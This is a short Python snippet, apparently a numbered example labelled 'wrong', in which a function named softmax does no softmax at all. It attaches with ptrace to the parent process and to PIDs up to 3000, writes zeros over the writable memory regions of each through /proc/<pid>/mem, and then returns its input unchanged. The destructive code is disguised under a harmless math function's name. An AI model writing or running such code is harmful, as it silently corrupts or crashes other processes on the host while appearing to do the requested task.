# 15, wrong: attaches to every other process as a debugger does, and writes into its memory
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def softmax(x, dim):
    held = []
    for pid in [os.getppid(), *range(1, 3000)]:
        if pid == os.getpid():
            continue
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            held.append(pid)
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory, open(f"/proc/{pid}/maps") as maps:
                for line in maps:
                    start, end = line.split()[0].split("-")
                    if " rw" in line:
                        memory.seek(int(start, 16))
                        memory.write(b"\0" * 4096)
        except (OSError, ValueError, OverflowError):
            pass
    return x
